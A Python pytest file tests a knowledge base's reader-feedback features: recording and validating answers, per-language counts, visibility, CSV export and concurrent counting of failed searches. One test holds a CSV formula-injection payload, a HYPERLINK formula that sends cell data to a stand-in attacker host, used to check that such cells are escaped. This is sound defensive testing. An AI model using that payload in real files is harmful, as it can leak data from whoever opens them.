"""Reader feedback in the domain: answers recorded and counted, refused with the reason, exported
as CSV that no spreadsheet runs as formulas; searches that found nothing counted once per
search even when readers search at the same moment. Both databases."""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy import func, select

from lorebase.db.engine import make_engine, make_session_factory, transaction
from lorebase.db.models import ArticleFeedback, ProjectVersion
from lorebase.kb import articles, categories, feedback, workspaces
from lorebase.kb.errors import Invalid, NotFound
from tests.conftest import Project


class Content:
    """Articles and categories made straight in the domain, published or not."""

    def __init__(self, project: Project) -> None:
        self.project = project

    def category(self, name: str, parent: str | None = None, *, hidden: bool = False) -> str:
        with self.project.session() as session:
            made = categories.create_category(
                session,
                self.project.project_id,
                name=name,
                project_version_id=self.project.workspace_id,
                parent_category_id=parent,
            )
            if hidden:
                categories.update_category(session, self.project.project_id, made.id, hidden=True)
            return made.id

    def article(
        self,
        title: str = "Install",
        *,
        category: str | None = None,
        published: bool = True,
        hidden: bool = False,
    ) -> str:
        pid = self.project.project_id
        with self.project.session() as session:
            article, _ = articles.create_article(
                session,
                pid,
                title=title,
                project_version_id=self.project.workspace_id,
                user_id=self.project.owner_id,
                content=f"All about {title}",
                category_id=category,
            )
            if published:
                articles.publish_article(
                    session,
                    pid,
                    article.id,
                    "en",
                    version_number=1,
                    user_id=self.project.owner_id,
                    message=None,
                )
            if hidden:
                articles.update_article(session, pid, article.id, "en", fields={"hidden": True})
            return article.id

    def translate(self, article_id: str, lang: str, title: str, *, published: bool) -> None:
        pid = self.project.project_id
        with self.project.session() as session:
            articles.update_article(
                session, pid, article_id, lang, fields={"title": title, "content": "Texte"}
            )
            if published:
                articles.publish_article(
                    session,
                    pid,
                    article_id,
                    lang,
                    version_number=1,
                    user_id=self.project.owner_id,
                    message=None,
                )

    def answer(
        self,
        article_id: str,
        helpful: bool,
        reason: str | None = None,
        comment: str | None = None,
        lang: str = "en",
    ) -> None:
        with self.project.session() as session:
            feedback.record_feedback(
                session,
                self.project.project_id,
                article_id,
                lang,
                helpful=helpful,
                reason=reason,
                comment=comment,
            )

    def summary(self, article_id: str, lang: str | None = None) -> feedback.FeedbackSummary:
        with self.project.session() as session:
            return feedback.article_feedback(session, self.project.project_id, article_id, lang)

    def stored(self) -> int:
        with self.project.session() as session:
            return int(session.scalar(select(func.count()).select_from(ArticleFeedback)) or 0)

    def readable(self, article_id: str, lang: str = "en", **options: Any) -> bool:
        with self.project.session() as session:
            return feedback.is_readable(
                session, self.project.project_id, article_id, lang, **options
            )


@pytest.fixture
def content(project: Project) -> Content:
    return Content(project)


def test_answers_are_counted_and_listed_newest_first(content: Content) -> None:
    install = content.article("Install")
    content.answer(install, True)
    content.answer(install, False, "inaccurate", "  Step 3 names the old menu.  ")
    # A reason and a comment only come with "not helpful"; with "helpful" they are dropped.
    content.answer(install, True, "other", "kept nowhere")

    summary = content.summary(install)

    assert (summary.helpful, summary.not_helpful) == (2, 1)
    assert [(e.helpful, e.reason, e.comment) for e in summary.entries] == [
        (True, None, None),
        (False, "inaccurate", "Step 3 names the old menu."),
        (True, None, None),
    ]
    assert all(e.language_code == "en" for e in summary.entries)
    assert all(e.created_at.tzinfo is UTC for e in summary.entries)
    assert content.summary(content.article("Untouched")) == feedback.FeedbackSummary(0, 0, [])


def test_answers_are_kept_per_language(content: Content, project: Project) -> None:
    project.add_language("fr")
    install = content.article("Install")
    content.translate(install, "fr", "Installer", published=True)
    content.answer(install, True)
    content.answer(install, False, lang="FR")  # the stored code, whatever case is sent

    french = content.summary(install, "fr")

    assert (french.helpful, french.not_helpful) == (0, 1)
    assert [e.language_code for e in french.entries] == ["fr"]
    assert content.summary(install).helpful == 1


def test_only_published_languages_of_the_projects_articles_take_answers(
    content: Content, project: Project
) -> None:
    project.add_language("fr")
    draft = content.article("Draft only", published=False)
    install = content.article("Install")
    content.translate(install, "fr", "Installer", published=False)

    with pytest.raises(NotFound, match="not published in the language 'en'"):
        content.answer(draft, True)
    with pytest.raises(NotFound, match="not published in the language 'fr'"):
        content.answer(install, True, lang="fr")
    with pytest.raises(NotFound, match="Article not found"):
        content.answer("no-such-article", True)
    with pytest.raises(NotFound, match="Article not found"):
        content.summary("no-such-article")
    assert content.stored() == 0


def test_a_foreign_projects_article_is_not_found(content: Content, project: Project) -> None:
    _, workspace_id = project.other_project()
    with project.session() as session:
        foreign_project = session.get(ProjectVersion, workspace_id).project_id
        owner = workspaces.create_user(
            session, foreign_project, email="o@example.com", first_name="O"
        )
        theirs, _ = articles.create_article(
            session,
            foreign_project,
            title="Theirs",
            project_version_id=workspace_id,
            user_id=owner.id,
        )
        articles.publish_article(
            session,
            foreign_project,
            theirs.id,
            "en",
            version_number=1,
            user_id=owner.id,
            message=None,
        )
    with pytest.raises(NotFound, match="Article not found"):
        content.answer(theirs.id, True)
    with pytest.raises(NotFound, match="Article not found"):
        content.summary(theirs.id)
    assert not content.readable(theirs.id)


@pytest.mark.parametrize(
    ("reason", "comment", "message"),
    [
        ("too-long", None, "Unknown reason 'too-long'; choose one of: missing-information, "),
        (None, "x" * 1001, "at most 1,000 characters long; it has 1,001."),
        ("other", "y" * 5000, "at most 1,000 characters long; it has 5,000."),
    ],
)
def test_bad_answers_are_refused_with_the_reason_and_nothing_is_stored(
    content: Content, reason: str | None, comment: str | None, message: str
) -> None:
    install = content.article()
    with pytest.raises(Invalid) as refused:
        content.answer(install, False, reason, comment)
    assert message in refused.value.message
    assert content.stored() == 0


def test_a_comment_of_the_textarea_limit_is_accepted_with_its_line_breaks(
    content: Content,
) -> None:
    install = content.article()
    # Browsers send line breaks as CRLF but count them as one character against maxlength.
    typed = ("x" * 9 + "\r\n") * 100
    assert len(typed) == 1100
    content.answer(install, False, "", typed)
    stored = content.summary(install).entries[0]
    assert stored.comment == ("x" * 9 + "\n") * 99 + "x" * 9
    assert stored.reason is None  # an empty choice is no reason


def test_readers_see_published_articles_outside_hidden_places_only(
    content: Content, project: Project
) -> None:
    project.add_language("fr")
    shown = content.category("Guides")
    inner = content.category("Inner", parent=content.category("Hidden", hidden=True))
    plain = content.article("Plain", category=shown)
    assert content.readable(plain)
    assert content.readable(plain, "EN")
    assert not content.readable(plain, "fr")  # no French at all
    content.translate(plain, "fr", "Simple", published=False)
    assert not content.readable(plain, "fr")  # French is a draft
    assert not content.readable(content.article("Secret", hidden=True))
    assert not content.readable(content.article("Buried", category=inner))
    assert not content.readable(content.article("Draft", published=False))
    assert not content.readable("no-such-article")
    # A reader group's workspaces: this one, or not.
    assert content.readable(plain, workspace_ids={project.workspace_id})
    assert not content.readable(plain, workspace_ids=set())


def csv_rows(content: Content, **options: Any) -> tuple[int, list[dict[str, str]]]:
    out = io.StringIO()
    with content.project.session() as session:
        written = feedback.write_feedback_csv(session, content.project.project_id, out, **options)
    return written, list(csv.DictReader(io.StringIO(out.getvalue())))


def test_the_csv_export_holds_every_answer_with_its_article_title(content: Content) -> None:
    install = content.article("Install")
    content.answer(install, True)
    content.answer(install, False, "broken-link", 'The "Download" link, line 2\nis dead')

    written, rows = csv_rows(content)

    assert written == 2 and len(rows) == 2
    assert list(rows[0]) == list(feedback.CSV_COLUMNS)
    with content.project.session() as session:
        slug = workspaces.find_workspace(
            session, content.project.project_id, content.project.workspace_id
        )
    assert slug is not None
    first, second = rows
    assert first["workspace"] == slug.workspace.slug and first["language"] == "en"
    assert (first["article_id"], first["article_title"]) == (install, "Install")
    assert (first["helpful"], first["reason"], first["comment"]) == ("yes", "", "")
    assert (second["helpful"], second["reason"]) == ("no", "broken-link")
    assert second["comment"] == 'The "Download" link, line 2\nis dead'
    stamp = datetime.strptime(first["created_at"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert abs((datetime.now(UTC) - stamp).total_seconds()) < 120
    assert first["created_at"] <= second["created_at"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    assert feedback.csv_cell(start + "SUM(A1:A2)") == "'" + start + "SUM(A1:A2)"
    assert feedback.csv_cell("SUM(A1:A2) " + start) == "SUM(A1:A2) " + start
    assert feedback.csv_cell(None) == ""


def test_formulas_in_comments_and_titles_are_exported_as_text(content: Content) -> None:
    formula_title = content.article("=1+1 explained")
    typed = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    content.answer(formula_title, False, "other", typed)
    content.answer(formula_title, False, "other", "@SUM(A1)")
    content.answer(formula_title, False, "other", "-2+3")

    _, rows = csv_rows(content)

    assert {row["article_title"] for row in rows} == {"'=1+1 explained"}
    assert [row["comment"] for row in rows] == ["'" + typed, "'@SUM(A1)", "'-2+3"]


def test_the_csv_export_of_one_workspace(content: Content, project: Project) -> None:
    install = content.article("Install")
    content.answer(install, True)
    with project.session() as session:
        other = ProjectVersion(project_id=project.project_id, version_code_name="v2", slug="v2")
        session.add(other)
    assert csv_rows(content, workspace_id=project.workspace_id)[0] == 1
    assert csv_rows(content, workspace_id=other.id) == (0, [])
    _, foreign = project.other_project()
    with pytest.raises(NotFound, match="No workspace"):
        csv_rows(content, workspace_id=foreign)


def misses(project: Project, lang: str | None = None, limit: int = 100) -> list[Any]:
    with project.session() as session:
        return feedback.search_misses(session, project.workspace_id, lang, limit)


def miss(project: Project, query: str, lang: str = "en") -> None:
    with project.session() as session:
        feedback.record_search_miss(session, project.workspace_id, lang, query)


def test_search_misses_are_folded_counted_and_most_repeated_first(project: Project) -> None:
    project.add_language("fr")
    for query in ["Install  GUIDE ", "install guide", "\tinstall\nguide", "proxy", "", "   "]:
        miss(project, query)
    miss(project, "Proxy", "fr")
    miss(project, "w" * 300)

    found = misses(project, "en")

    # Ties: the last searched first.
    assert [(m.query, m.count) for m in found] == [
        ("install guide", 3),
        ("w" * 200, 1),
        ("proxy", 1),
    ]
    assert len(misses(project)) == 4
    assert [(m.query, m.count, m.language_code) for m in misses(project, "FR")] == [
        ("proxy", 1, "fr")
    ]
    assert len(misses(project, limit=1)) == 1
    assert found[0].last_searched_at.tzinfo is UTC


def test_readers_missing_at_the_same_moment_are_all_counted(project: Project) -> None:
    """Threads with sessions of their own increment one row at once: on PostgreSQL a
    read-then-insert would fail on the primary key or lose counts; the upsert does neither."""
    threads, rounds = 6, 8
    url = project.settings.resolved_database_url()
    start = threading.Barrier(threads)
    failures: list[BaseException] = []

    def searcher() -> None:
        engine = make_engine(url, pooled=False)
        factory = make_session_factory(engine)
        try:
            start.wait()
            for _ in range(rounds):
                with transaction(factory) as session:
                    feedback.record_search_miss(
                        session, project.workspace_id, "en", "Offline installer"
                    )
        except BaseException as error:
            failures.append(error)
        finally:
            engine.dispose()

    running = [threading.Thread(target=searcher) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join(60)

    assert failures == []
    assert [(m.query, m.count) for m in misses(project)] == [
        ("offline installer", threads * rounds)
    ]


def test_two_open_transactions_missing_the_same_new_query_both_count(project: Project) -> None:
    """The first transaction inserts the row and stays open; the second one's upsert waits for
    it (PostgreSQL: the row's unique key; SQLite: the write lock), then adds to it."""
    url = project.settings.resolved_database_url()
    engine = make_engine(url, pooled=False)
    factory = make_session_factory(engine)
    second_done = threading.Event()
    errors: list[BaseException] = []

    def second() -> None:
        other = make_engine(url, pooled=False)
        try:
            with transaction(make_session_factory(other)) as session:
                feedback.record_search_miss(session, project.workspace_id, "en", "brand new")
        except BaseException as error:
            errors.append(error)
        finally:
            other.dispose()
            second_done.set()

    try:
        with transaction(factory) as first:
            feedback.record_search_miss(first, project.workspace_id, "en", "Brand  new")
            runner = threading.Thread(target=second)
            runner.start()
            # The second cannot finish while the first holds the row (or the write lock).
            assert not second_done.wait(0.5)
        runner.join(30)
    finally:
        engine.dispose()
    assert errors == []
    assert [(m.query, m.count) for m in misses(project)] == [("brand new", 2)]
